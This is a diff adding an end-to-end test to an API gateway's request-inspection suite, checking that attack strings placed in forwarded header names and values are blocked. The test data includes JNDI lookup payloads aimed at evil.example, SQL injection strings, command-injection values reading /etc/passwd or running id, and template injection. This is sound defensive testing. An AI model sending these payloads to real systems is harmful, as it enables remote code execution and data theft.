@@ -1,3 +1,4 @@
+/* eslint-disable no-template-curly-in-string -- attack payloads contain literal ${...} lookups */
 /**
  * Inspection evasions (issue "Request inspection II"), end to end over TCP through the whole
  * gateway: coded bodies, charsets, duplicate JSON keys and headers outside the inspected set.
@@ -210,4 +211,50 @@ t.test('duplicate JSON keys are refused at any depth, equal after unescaping', a
   const res = await send(`${url}/api/orders`, json, single)
   t.equal(res.status, 200, 'equal keys in different objects are fine')
   t.equal(up.requests[0]?.body.toString(), single)
+})
+
+t.test('every header forwarded upstream is inspected, name and value', async (t) => {
+  const { url, port, up } = await setup(t)
+  const attacks: Array<[string, string]> = [
+    ['tracestate', 'vendor=${jndi:ldap://evil.example/a}'],
+    ['traceparent', '${jndi:ldap://evil.example/a}'],
+    ['accept-encoding', 'gzip\' OR 1=1--'],
+    ['x-anything', '1\' UNION SELECT password FROM users--'],
+    ['x-anything', 'a; cat /etc/passwd'],
+    ['x-anything', '{{7*7}}'],
+    ['x-anything', '1 AND SLEEP(5)'],
+    ['user-agent', '${jndi:ldap://evil.example/a}'],
+    ['x-api-version', '${jndi:ldap://evil.example/a}'],
+    ['sec-websocket-key', '${jndi:ldap://evil.example/a}'],
+    ['content-encoding', '${jndi:ldap://evil.example/a}']
+  ]
+  for (const [name, value] of attacks) {
+    const res = await send(`${url}/stream/items`, { [name]: value }, undefined, 'GET')
+    t.strictSame(res, { status: 403, code: 'GW_INSPECT_BLOCKED' }, `${name}: ${value}`)
+  }
+  for (const name of ['x-\'--', 'x|id', 'x-`id`']) {
+    const named = await rawRequest(port, `GET /stream/items HTTP/1.1\r\nHost: x\r\n${name}: 1\r\n\r\n`)
+    t.equal(named.status, 403, `a payload in a header name: ${name}`)
+    t.match(named.body, /GW_INSPECT_BLOCKED/)
+  }
+  t.equal(up.requests.length, 0, 'nothing reached the upstream')
+
+  const ordinary = {
+    'user-agent': 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
+    accept: 'application/json, text/plain, */*',
+    'accept-encoding': 'gzip, deflate, br, zstd',
+    'accept-language': 'en-GB,en;q=0.9,de;q=0.8',
+    traceparent: '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01',
+    tracestate: 'rojo=00f067aa0ba902b7,congo=t61rcWkgMzE',
+    'x-api-version': '2024-10-01',
+    'x-anything': 'plain value, nothing more',
+    referer: 'https://app.example.com/orders?page=2',
+    'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ=='
+  }
+  const res = await send(`${url}/stream/items`, ordinary, undefined, 'GET')
+  t.equal(res.status, 200, 'ordinary headers pass')
+  const got = up.requests[0]?.headers
+  t.equal(got?.['x-api-version'], '2024-10-01')
+  t.equal(got?.['x-anything'], 'plain value, nothing more')
+  t.equal(got?.['accept-encoding'], 'gzip, deflate, br, zstd')
 })
